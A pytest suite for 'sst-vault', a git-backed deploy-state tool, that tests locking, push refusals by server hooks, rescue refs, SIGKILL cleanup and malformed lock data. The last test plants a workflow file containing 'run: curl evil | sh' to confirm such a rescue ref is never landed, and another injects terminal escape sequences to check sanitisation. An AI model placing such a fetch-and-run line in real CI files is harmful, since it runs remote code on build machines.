"""Many runners, refusing remotes, killed runs: no deploy's state is lost (issue 9, remote side).

Real git everywhere: bare remotes over file:// and loopback `git daemon`, server-side hooks
that decline pushes, real SIGKILLs. Concurrency is a few representative rounds; the long loops
are in bench/bench_run.py.
"""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import VaultProject
from helpers import error_line
from lockutil import (
    BUMP,
    DEPLOY,
    STAGE,
    Daemon,
    Team,
    bump_cmd,
    counter_of,
    deploy_cmd,
    make_team,
    run_all,
)
from test_lock import REF

from vault.lock import LockInfo


@pytest.fixture
def daemon(tmp_path: Path, env: dict[str, str]):
    (tmp_path / "remotes").mkdir()
    server = Daemon(tmp_path / "remotes", env).start()
    yield server
    server.stop()


@pytest.fixture
def scripts(tmp_path: Path) -> dict[str, Path]:
    bump, deploy = tmp_path / "bump.py", tmp_path / "deploy.py"
    bump.write_text(BUMP)
    deploy.write_text(DEPLOY)
    return {"bump": bump, "deploy": deploy}


def run_cmd(project: VaultProject, *args: str) -> list[str]:
    return [sys.executable, "-m", "vault", "--sst-home", str(project.home), "run", *args]


def remote_counter(team: Team, stage: str = STAGE, name: str = "check") -> int:
    fresh = team.clone(f"{name}-{stage}")
    result = fresh.cli("prepare", stage)
    assert result.code == 0, result.output
    return counter_of(fresh, stage)


def assert_linear(team: Team) -> None:
    assert team.remote_git("rev-list", "--merges", "main") == ""


def install_hook(team: Team, name: str, body: str) -> Path:
    hook = team.bare / "hooks" / name
    hook.write_text("#!/bin/sh\n" + body)
    hook.chmod(0o755)
    return hook


# --- many runners ---------------------------------------------------------------------------


def test_eight_runners_on_eight_stages_then_four_on_one_over_git_daemon(
    tmp_path: Path, daemon: Daemon, scripts: dict[str, Path]
) -> None:
    """Preview stages deploy at once: every run succeeds, no update lost, history linear."""
    team = make_team(tmp_path, daemon, seeded=True)
    stages = [f"pr-{i}" for i in range(8)]
    runners = [team.clone(f"r{i}") for i in range(8)]
    run_all(
        [
            (r, [run_cmd(r, "--stage", s, *deploy_cmd(r, scripts["deploy"], s))] * 2)
            for r, s in zip(runners, stages, strict=True)
        ]
    )
    for stage in stages:
        assert remote_counter(team, stage) == 2
    # Four runners, one stage, waiting for each other's lock.
    one = runners[:4]
    run_all(
        [
            (
                r,
                [
                    run_cmd(
                        r, "--stage", STAGE, "--lock-timeout", "300", *bump_cmd(r, scripts["bump"])
                    )
                ],
            )
            for r in one
        ]
    )
    assert remote_counter(team) == 4
    assert_linear(team)
    assert team.lock_refs() == []
    log = team.remote_git("log", "--format=%s", "main").splitlines()
    assert sum("sst-vault run --stage" in line for line in log) == 8 * 2 + 4


def test_a_push_lost_to_a_racing_server_ref_lock_is_retried(
    tmp_path: Path, scripts: dict[str, Path]
) -> None:
    """`[remote rejected] (failed to update ref)` with the branch unmoved: retried, not refused.

    A pre-receive hook holds the branch's ref lock file during the first push (as a concurrent
    push does on the server), so git reports a lost race although nobody else pushed.
    """
    team = make_team(tmp_path, seeded=True)
    a = team.clone("a")
    marker = tmp_path / "once"
    install_hook(
        team,
        "pre-receive",
        # First push: hold the ref lock as a concurrent receive-pack would; the next one (the
        # retry) finds it released.
        'while read old new ref; do [ "$ref" = refs/heads/main ] || continue\n'
        f'if [ ! -e "{marker}" ]; then touch "{marker}" refs/heads/main.lock; '
        "else rm -f refs/heads/main.lock; fi; done\nexit 0\n",
    )
    result = a.cli("run", "--stage", STAGE, *bump_cmd(a, scripts["bump"]))
    assert result.code == 0, result.output
    assert marker.exists() and "sst-vault: pushed after" in result.err
    assert remote_counter(team) == 1 and team.lock_refs() == []


# --- refused for good: rescue refs ------------------------------------------------------------


def test_a_hook_that_declines_keeps_the_state_on_a_rescue_ref_and_the_stage_locked(
    tmp_path: Path, daemon: Daemon, scripts: dict[str, Path]
) -> None:
    team = make_team(tmp_path, daemon, seeded=True)
    a, b = team.clone("a"), team.clone("b")
    hook = install_hook(
        team,
        "pre-receive",
        'while read old new ref; do case "$ref" in refs/heads/*)\n'
        "  printf 'main is protected \\033[31mby policy\\n'; exit 1;; esac; done\nexit 0\n",
    )
    result = a.cli("run", "--stage", STAGE, *bump_cmd(a, scripts["bump"]))
    assert result.code == 1
    line = error_line(result.err)
    assert "declined the push to main: a server-side hook refused it" in line
    assert "main is protected \\x1b[31mby policy" in line and "\x1b" not in result.err
    assert "host may restrict" not in line
    head = a.git("rev-parse", "HEAD").strip()
    rescue = f"refs/sst-vault/rescue/demo-app/prod/{head[:12]}"
    assert f"saved on origin as {rescue}" in line
    assert f"`sst-vault rescue land --stage prod {head[:12]}`" in line
    assert team.remote_git("rev-parse", rescue).strip() == head
    assert REF in team.lock_refs()  # the stage stays locked: nobody deploys from counter 0

    status = b.cli("lock", "status", "--stage", STAGE)
    assert status.code == 0 and f"its state rescued to {rescue}" in status.out
    assert f"rescued state waiting on {rescue}" in status.out
    held = b.cli("run", "--stage", STAGE, *bump_cmd(b, scripts["bump"]))
    assert held.code == 1 and "its state rescued to" in error_line(held.err)
    listed = b.cli("rescue", "list", "--json")
    assert listed.code == 0, listed.output
    [row] = json.loads(listed.out)
    assert row["stage"] == STAGE and row["commit"] == head and "exited 0" in row["subject"]

    still = b.cli("rescue", "land", "--stage", STAGE)  # the hook still declines
    assert still.code == 1 and "declined" in error_line(still.err)
    assert team.remote_git("rev-parse", rescue).strip() == head

    hook.unlink()  # the admins lift the protection
    landed = b.cli("rescue", "land", "--stage", STAGE, head[:12])
    assert landed.code == 0, landed.output
    assert "Released the deploy lock" in landed.err
    assert team.lock_refs() == []
    assert remote_counter(team) == 1
    assert_linear(team)
    assert b.cli("run", "--stage", STAGE, *bump_cmd(b, scripts["bump"])).code == 0
    assert remote_counter(team, name="again") == 2


def test_when_the_rescue_ref_is_refused_too_the_lock_stays_and_break_says_so(
    tmp_path: Path, scripts: dict[str, Path]
) -> None:
    team = make_team(tmp_path, seeded=True)
    a, b = team.clone("a"), team.clone("b")
    install_hook(
        team,
        "pre-receive",
        'while read old new ref; do case "$ref" in refs/heads/*|refs/sst-vault/rescue/*)\n'
        "  echo 'no'; exit 1;; esac; done\nexit 0\n",
    )
    result = a.cli("run", "--stage", STAGE, *bump_cmd(a, scripts["bump"]))
    assert result.code == 1
    line = error_line(result.err)
    assert "refused the rescue ref too" in line and str(a.root) in line
    assert "lock release --stage prod" in line
    assert REF in team.lock_refs()
    broken = b.cli("lock", "break", "--stage", STAGE)
    assert broken.code == 0 and "may be unsaved" in broken.err


def test_after_a_break_a_waiting_rescued_state_still_stops_the_next_deploy(
    tmp_path: Path, scripts: dict[str, Path]
) -> None:
    team = make_team(tmp_path, seeded=True)
    a, b = team.clone("a"), team.clone("b")
    hook = install_hook(
        team,
        "pre-receive",
        'while read old new ref; do case "$ref" in refs/heads/*) exit 1;; esac; done\nexit 0\n',
    )
    assert a.cli("run", "--stage", STAGE, *bump_cmd(a, scripts["bump"])).code == 1
    hook.unlink()
    broken = b.cli("lock", "break", "--stage", STAGE)
    assert broken.code == 0 and "rescued state waiting" in broken.err
    assert "may be unsaved" not in broken.err
    refused = b.cli("run", "--stage", STAGE, *bump_cmd(b, scripts["bump"]))
    assert refused.code == 1 and "land it first" in error_line(refused.err)
    assert REF not in team.lock_refs()  # its lock was released; the rescue ref stays
    assert any("/rescue/" in ref for ref in team.lock_refs())
    assert b.cli("rescue", "land", "--stage", STAGE).code == 0
    assert b.cli("run", "--stage", STAGE, *bump_cmd(b, scripts["bump"])).code == 0
    assert remote_counter(team) == 2


def test_a_branch_kept_locked_on_the_server_ends_at_the_push_deadline_on_a_rescue_ref(
    tmp_path: Path, scripts: dict[str, Path]
) -> None:
    team = make_team(tmp_path, seeded=True)
    a, b = team.clone("a"), team.clone("b")
    stuck = team.bare / "refs" / "heads" / "main.lock"  # a crashed server process left it
    install_hook(team, "pre-receive", f'touch "{stuck}"\nexit 0\n')
    result = a.cli("run", "--stage", STAGE, "--push-timeout", "2", *bump_cmd(a, scripts["bump"]))
    assert result.code == 1
    line = error_line(result.err)
    assert "was still rejected after 2s" in line and "--push-timeout" in line
    head = a.git("rev-parse", "HEAD").strip()
    assert f"sst-vault rescue land --stage prod {head[:12]}" in line
    assert REF in team.lock_refs()
    (team.bare / "hooks" / "pre-receive").unlink()
    stuck.unlink()
    landed = b.cli("rescue", "land", "--stage", STAGE)
    assert landed.code == 0, landed.output
    assert team.lock_refs() == [] and remote_counter(team) == 1


def test_a_hook_that_declines_lock_refs_is_named_as_such(tmp_path: Path) -> None:
    team = make_team(tmp_path)
    a = team.clone("a")
    install_hook(
        team,
        "pre-receive",
        'while read old new ref; do case "$ref" in refs/sst-vault/*)\n'
        "  echo 'refs outside refs/heads are not allowed here'; exit 1;; esac; done\nexit 0\n",
    )
    result = a.cli("lock", "acquire", "--stage", STAGE)
    assert result.code == 1
    line = error_line(result.err)
    assert "a server-side hook declined it" in line and "not allowed here" in line
    assert "host may restrict" not in line


# --- `run` owns nothing after the command --------------------------------------------------------


def test_options_after_the_command_belong_to_the_command(
    tmp_path: Path, scripts: dict[str, Path]
) -> None:
    team = make_team(tmp_path, seeded=True)
    a = team.clone("a")
    argv_file = tmp_path / "argv.json"
    deploy = deploy_cmd(a, scripts["deploy"], "dev")
    probe = (
        "import json, sys, subprocess; "
        f"json.dump(sys.argv[1:], open({str(argv_file)!r}, 'w')); "
        f"subprocess.run({deploy!r}, check=True)"
    )
    result = a.cli(
        "run", "--stage", "dev", sys.executable, "-c", probe, "--stage", "prod", "--no-lock"
    )
    assert result.code == 0, result.output
    assert json.loads(argv_file.read_text()) == ["--stage", "prod", "--no-lock"]
    log = team.remote_git("log", "-1", "--format=%s", "main")
    assert log.startswith("sst-vault run --stage dev:")
    files = team.remote_git("ls-tree", "-r", "--name-only", "main", "infra/state").split()
    assert "infra/state/app/dev.json.vault" in files
    assert remote_counter(team) == 0  # prod untouched
    # With `--` the same.
    again = a.cli("run", "--stage", "dev", "--", sys.executable, "-c", probe, "--x")
    assert again.code == 0, again.output
    assert json.loads(argv_file.read_text()) == ["--x"]
    # An option of ours after the command is not ours: --stage is then missing.
    missing = a.cli("run", sys.executable, "-c", "pass", "--stage", "dev")
    assert missing.code == 2 and "--stage" in missing.err


def _alive(pid: int) -> bool:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat.rsplit(")", 1)[1].split()[0] not in ("Z", "X")


def test_kill_9_of_sst_vault_stops_the_command_and_its_children(
    tmp_path: Path, scripts: dict[str, Path]
) -> None:
    team = make_team(tmp_path, seeded=True)
    a, b = team.clone("a"), team.clone("b")
    ready = tmp_path / "ready"
    shell_pid = tmp_path / "shell"
    # sh (the command) starts python (its child), as npx starts node and sst.
    inner = " ".join(bump_cmd(a, scripts["bump"], 0, str(ready)))
    cmd = ["sh", "-c", f"echo $$ > {shell_pid}; {inner}; echo done"]
    proc = subprocess.Popen(
        run_cmd(a, "--stage", STAGE, *cmd), cwd=a.root, env=a.env, stderr=subprocess.DEVNULL
    )
    deadline = time.monotonic() + 60
    while not ready.exists():
        assert time.monotonic() < deadline and proc.poll() is None
        time.sleep(0.05)
    child, grandchild = int(shell_pid.read_text()), int(ready.read_text())
    assert _alive(child) and _alive(grandchild)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    deadline = time.monotonic() + 60
    while _alive(child) or _alive(grandchild):
        assert time.monotonic() < deadline, "the command kept running after sst-vault died"
        time.sleep(0.1)
    status = b.cli("lock", "status", "--stage", STAGE)
    assert "locked by" in status.out
    broken = b.cli("lock", "break", "--stage", STAGE)
    assert broken.code == 0 and "may be unsaved" in broken.err


# --- untrusted locks, deadlines ----------------------------------------------------------------


def _push_lock(team: Team, project: VaultProject, message: str | None, blob: bool = False) -> None:
    if blob:
        sha = subprocess.run(
            ["git", "hash-object", "-w", "--stdin"],
            cwd=project.root,
            env=project.env,
            input=message,
            capture_output=True,
            text=True,
            check=True,
        ).stdout.strip()
    else:
        tree = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"  # git's empty tree
        sha = subprocess.run(
            ["git", "commit-tree", tree, "-m", message or ""],
            cwd=project.root,
            env=project.env,
            capture_output=True,
            text=True,
            check=True,
        ).stdout.strip()
    project.git("push", "-q", "origin", f"+{sha}:{REF}")


@pytest.mark.parametrize(
    "message",
    [
        "x\n\n"
        + json.dumps(
            {
                "user": ["a"],
                "host": "\x1b[31mevil\r\nError: fake",
                "pid": "12",
                "ttl": "1",
                "created": 5,
                "command": {"x": 1},
                "ci_run": 3,
                "nonce": None,
                "rescue": 7,
                "version": True,
            }
        ),
        "x\n\n[1, 2, 3]",
        "x\n\n" + "{" * 5000,
        "not ours at all",
        "blob",
    ],
)
def test_a_foreign_lock_never_crashes_and_can_be_broken(
    tmp_path: Path, message: str, scripts: dict[str, Path]
) -> None:
    team = make_team(tmp_path, seeded=True)
    a, b = team.clone("a"), team.clone("b")
    _push_lock(team, a, message, blob=message == "blob")
    for args in (
        ("lock", "status", "--stage", STAGE),
        ("lock", "status", "--stage", STAGE, "--json"),
    ):
        result = b.cli(*args)
        assert result.code == 0, result.output
        assert "\x1b" not in result.out and "\r" not in result.out
        assert "Traceback" not in result.err
    if "evil" in message:
        assert "\\x1b[31mevil\\x0d\\x0aError: fake" in b.cli("lock", "status", "--stage", STAGE).out
    held = b.cli("run", "--stage", STAGE, *bump_cmd(b, scripts["bump"]))
    assert held.code == 1 and "is held by" in error_line(held.err)
    assert "\x1b" not in held.err
    broken = b.cli("lock", "break", "--stage", STAGE)
    assert broken.code == 0, broken.output
    assert team.lock_refs() == []


def test_lock_info_parse_is_total() -> None:
    import random

    values = [None, True, 0, -1, 2**70, 1.5, "", "x\x00\x1b", [], {}, ["a"], {"a": 1}]
    fields = ["user", "host", "pid", "command", "ci_run", "created", "ttl", "nonce", "rescue"]
    rng = random.Random(9)
    for _ in range(500):
        body = {f: rng.choice(values) for f in fields if rng.random() < 0.8}
        info = LockInfo.parse("s\n\n" + json.dumps(body), "abc")
        text = info.describe()
        assert not any(ord(c) < 32 for c in text)
        assert isinstance(info.pid, int) and isinstance(info.ttl, int)


def test_lock_timeout_is_a_deadline_when_the_host_refuses_to_replace_an_expired_lock(
    tmp_path: Path,
) -> None:
    from datetime import UTC, datetime, timedelta

    from vault.lock import DeployLock
    from vault.project import Project

    team = make_team(tmp_path)
    a, b = team.clone("a"), team.clone("b")
    lock = DeployLock(Project.open(a.root, a.home), STAGE)
    old = lock._new_lock(60, "npx sst deploy", now=datetime.now(UTC) - timedelta(hours=2))
    assert lock._create(old.sha)
    pushes = tmp_path / "pushes"
    # The host lets lock refs be created, never updated or deleted.
    install_hook(
        team,
        "update",
        f'echo "$1" >> "{pushes}"\n'
        'case "$1" in refs/sst-vault/locks/*) [ "$2" = 0000000000000000000000000000000000000000 ]'
        ' || { echo "lock refs are write-once"; exit 1; };; esac\nexit 0\n',
    )
    proc = subprocess.run(
        [
            *(sys.executable, "-m", "vault", "--sst-home", str(b.home)),
            *("lock", "acquire", "--stage", STAGE, "--lock-timeout", "1"),
        ],
        cwd=b.root,
        env=b.env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 1
    line = error_line(proc.stderr)
    assert "refused to replace it" in line and "lock break --stage prod" in line
    tries = len(pushes.read_text().splitlines())
    assert 1 <= tries < 60  # bounded by the deadline (the bug: 325 pushes in 25 s)


# --- CI never degrades silently; messages keep the cause ------------------------------------------


def test_in_ci_a_missing_remote_named_in_the_config_is_an_error(
    tmp_path: Path, scripts: dict[str, Path]
) -> None:
    team = make_team(tmp_path, seeded=True)
    a = team.clone("a")
    config = a.root / "sst-vault.toml"
    config.write_text(config.read_text().replace("vault_id", 'remote = "upstream"\nvault_id', 1))
    ci = dict(a.env, CI="true")
    before = a.git("rev-parse", "HEAD")
    result = a.cli("run", "--stage", STAGE, *bump_cmd(a, scripts["bump"]), env=ci)
    assert result.code == 2
    line = error_line(result.err)
    assert "no git remote named 'upstream'" in line and "--no-lock --no-push" in line
    assert a.git("rev-parse", "HEAD") == before and not a.state_file("app", STAGE).exists()
    only_push = a.cli("run", "--stage", STAGE, "--no-lock", *bump_cmd(a, scripts["bump"]), env=ci)
    assert only_push.code == 2 and "--no-push" in error_line(only_push.err)
    both = a.cli(
        "run", "--stage", STAGE, "--no-lock", "--no-push", *bump_cmd(a, scripts["bump"]), env=ci
    )
    assert both.code == 0, both.output
    outside = {k: v for k, v in a.env.items() if k != "CI"}
    local = a.cli("run", "--stage", STAGE, *bump_cmd(a, scripts["bump"]), env=outside)
    assert local.code == 0 and "not pushed" in local.err


def test_connection_refused_is_kept_in_the_message(
    tmp_path: Path, daemon: Daemon, scripts: dict[str, Path]
) -> None:
    team = make_team(tmp_path, daemon, seeded=True)
    a = team.clone("a")
    daemon.stop(signal.SIGKILL)
    for args in (
        ("lock", "status", "--stage", STAGE),
        ("run", "--stage", STAGE, *bump_cmd(a, scripts["bump"])),
    ):
        result = a.cli(*args)
        assert result.code == 1
        assert "Connection refused" in error_line(result.err), result.err


def test_a_planted_rescue_ref_that_changes_other_files_is_never_landed(tmp_path: Path) -> None:
    team = make_team(tmp_path, seeded=True)
    writer, member = team.clone("writer"), team.clone("member")
    (writer.root / ".github-workflow.yml").write_text("run: curl evil | sh\n")
    writer.git("add", ".github-workflow.yml")
    writer.git("commit", "-q", "-m", "sst-vault run --stage prod")
    planted = writer.git("rev-parse", "HEAD").strip()
    writer.git("push", "-q", "origin", "HEAD:refs/sst-vault/rescue/demo-app/prod/planted")
    listed = member.cli("rescue", "list")
    assert listed.code == 0 and "prod planted" in listed.out
    landed = member.cli("rescue", "land", "--stage", STAGE)
    assert landed.code == 1
    assert "not prod's state: not landed" in error_line(landed.err)
    assert team.remote_git("rev-parse", "main").strip() != planted
    assert ".github-workflow.yml" not in team.remote_git("ls-tree", "--name-only", "main")
